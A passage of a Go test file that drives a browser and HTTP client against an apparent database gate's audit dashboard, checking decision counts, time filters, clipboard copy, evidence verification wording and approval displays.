	require.Contains(t, page, `<input type="hidden" name="table" value="public.orders">`)
	rule := regexp.MustCompile(`<a href="(/audit\?[^"]*rule_id=[^"]*)">[^<]+</a> <span class="soft">(\d+)</span>`)
	most := rule.FindStringSubmatch(page)
	require.Equal(t, "3", most[2], "the rule that decided most stands first")
	alone := plane.page(t, html.UnescapeString(most[1]))
	require.Contains(t, alone, "3 allowed, 0 asked for approval, 0 blocked")
	require.Equal(t, 3, strings.Count(alone, `class="dot good`))
	require.Contains(t, plane.page(t, "/audit?actor=ben"), "0 allowed, 1 asked for approval, 0 blocked")
	require.NotContains(t, plane.page(t, "/audit?actor=nobody"), "Decisions over time")

	ends := regexp.MustCompile(`<option value="([^"]+)" data-time`).FindAllStringSubmatch(page, -1)
	half := len(ends) / 2
	require.NotContains(t, plane.page(t, "/audit?since="+ends[0][1]+"&until="+ends[half-2][1]), "Decisions over time", "a step may have begun since they were decided")
	require.Contains(t, plane.page(t, "/audit?since="+ends[half-2][1]+"&until="+ends[len(ends)-1][1]), "3 allowed, 1 asked for approval, 1 blocked")
}

// decisionsRead unfolds a request, copies its id, narrows the list to a time, and sees
// times in the zone of the browser and in UTC.
func decisionsRead(t *testing.T, b *browser.Browser) {
	g := startShop(t)
	ran := g.query(t, ask("UPDATE orders SET status = 'paid' WHERE id = 1"))
	w := openTab(t, b, startTestPlane(t, g.base))
	_, err := chromedp.Call(w.ctx, emulation.SetTimezoneOverride, emulation.SetTimezoneOverrideParams{TimezoneID: "Asia/Tokyo"})
	require.NoError(t, err)
	for _, name := range []string{"clipboard-read", "clipboard-write"} {
		_, err = chromedp.CallBrowser(w.ctx, cdpbrowser.SetPermission, cdpbrowser.SetPermissionParams{Permission: &cdpbrowser.PermissionDescriptor{Name: name}, Setting: cdpbrowser.PermissionSettingGranted, BrowserContextID: browser.Profile(w.ctx)})
		require.NoError(t, err)
	}
	w.login()
	w.open("/audit")
	w.do(chromedp.Click(`.ranges a[href*="last+1+h"]`))
	w.until("location.search.includes('since=last') && document.querySelector('.requests')")
	w.value("[...document.querySelectorAll('.requests summary')].find(e => e.innerText === 'Timeline of 4 events').click(), ''")
	w.sees("Sent to the database")
	w.do(chromedp.Click(`[data-copy-text="` + ran.text(t, "request_id") + `"]`))
	w.sees("Copied.")
	require.Equal(t, ran.text(t, "request_id"), w.await("navigator.clipboard.readText()"))
	w.until("/GMT\\+9$/.test(document.querySelector('.requests time').innerText)")
	w.do(chromedp.Click(`form[action="/times"] button`))
	w.until("document.documentElement.dataset.times === 'utc' && / UTC$/.test(document.querySelector('.requests time').innerText)")
	require.Contains(t, w.value("location.search"), "since=last", "the page is the same")
	w.requireLight()
	w.narrowed()
	w.requireNothingKept(g)
}

// narrowed has a span of the chart shown: dragged over, clicked at both ends, and chosen by
// the keyboard. What was decided stands in the last bars.
func (w *tab) narrowed() {
	w.t.Helper()
	hour := w.value("location.pathname + location.search")
	at := func(share float64) (x, y float64) {
		w.value("document.querySelector('.spans').scrollIntoView({block: 'center'}), ''")
		_, err := fmt.Sscan(w.value("(b => (b.x + b.width * "+fmt.Sprint(share)+") + ' ' + (b.y + b.height / 2))(document.querySelector('.spans').getBoundingClientRect())"), &x, &y)
		require.NoError(w.t, err)
		return x, y
	}
	mouse := func(kind input.DispatchMouseEventType, share float64) {
		x, y := at(share)
		w.do(chromedp.MouseEvent(kind, x, y, chromedp.ButtonLeft, chromedp.ClickCount(1)))
	}
	const narrow = "/^[?]since=20[^&]*&until=20/.test(location.search)"
	mouse(chromedp.MousePressed, 0.5)
	mouse(chromedp.MouseMoved, 0.3)
	require.Equal(w.t, "true", w.value("String(Number(document.querySelector('.spans .span').getAttribute('width')) > 10)"))
	mouse(chromedp.MouseMoved, 0.02)
	mouse(chromedp.MouseReleased, 0.02)
	w.until(narrow)
	w.sees("No event fits this filter.")

	w.open(hour)
	for _, share := range []float64{0.99, 0.7} {
		w.until("document.querySelector('.spans')")
		mouse(chromedp.MousePressed, share)
		mouse(chromedp.MouseReleased, share)
	}
	w.until(narrow)
	w.until("document.querySelector('.requests')")

	w.open(hour)
	w.tabTo("document.activeElement.id === 'c-since'")
	w.tabTo("document.activeElement.id === 'c-until'")
	w.do(chromedp.KeyEvent(kb.Home))
	w.tabTo("document.activeElement.matches('.span-form button')")
	w.do(chromedp.KeyEvent(kb.Enter))
	w.until(narrow)
	w.sees("No event fits this filter.")
}

// What a report's strongest anchor reaches stands in its first line: a signature of
// the first event says nothing about the others.
func TestAReportSaysHowFarItsAnchorReaches(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	for range 3 {
		g.query(t, ask("SELECT id FROM orders WHERE id = 1"))
	}
	plane := startTestPlane(t, g.base).reader(t)
	token := regexp.MustCompile(`name="csrf" content="([^"]*)"`).FindStringSubmatch(plane.page(t, "/evidence"))[1]
	request, err := http.NewRequestWithContext(t.Context(), http.MethodPost, plane.base+"/evidence/verify", strings.NewReader(url.Values{"csrf": {token}}.Encode()))
	require.NoError(t, err)
	request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	request.Header.Set("Origin", plane.base)
	request.Header.Set("Sec-Fetch-Site", "same-origin")
	answer, err := plane.Do(request)
	require.NoError(t, err)
	text, err := io.ReadAll(answer.Body)
	require.NoError(t, errors.Join(err, answer.Body.Close()))
	page := string(text)
	require.Regexp(t, `Every check passed, for \d+ events from 1 to \d+, held against signed checkpoints up to event \d+\. <strong>What came behind event \d+ is vouched for by less\.</strong>`, page)
	require.Less(t, strings.Index(page, "What this does not exclude"), strings.Index(page, "<caption class=\"unseen\">Checks"))
}

// How many approvals wait is not 0 where nobody knows it.
func TestAnUnknownNumberOfApprovalsIsNotNone(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	g.hold(t, ask("DELETE FROM orders WHERE id = 7"))
	plane := startTestPlane(t, g.base).reader(t)
	problem := func(path string) string {
		answer, err := plane.Get(plane.base + path)
		require.NoError(t, err)
		text, err := io.ReadAll(answer.Body)
		require.NoError(t, errors.Join(err, answer.Body.Close()))
		require.NotEqual(t, http.StatusOK, answer.StatusCode)
		return string(text)
	}
	require.Contains(t, problem("/nowhere"), `<span class="pill warn">1<span class="unseen"> waiting</span></span>`)
	g.end(t)
	require.Contains(t, problem("/approvals"), `<span class="pill calm">?<span class="unseen"> waiting: not known</span></span>`)
}

// What a gate decided before the dashboard could reach it is counted from the log.
func TestADashboardThatIsThereFirstCountsWhatCameBeforeItsFirstReading(t *testing.T) {
	t.Parallel()
	d := newGateDir(t, nil)
	d.execute(t, shopTables)
	g := startGate(t, d, "GATE_HTTP_LISTEN_ADDR=127.0.0.6:0") // where nobody takes its port while it is down
	base := g.base
	g.end(t)
	plane := startTestPlane(t, base).reader(t)
	require.Contains(t, plane.page(t, "/"), "Not known while the gate cannot be reached.")
	g = startGate(t, d, "GATE_HTTP_LISTEN_ADDR="+strings.TrimPrefix(base, "http://"), "GATE_MODE=shadow")
	g.query(t, ask("DELETE FROM orders WHERE id = 3"))
	require.Contains(t, plane.page(t, "/"), "Of those asked or blocked 1 was not enforced")
}
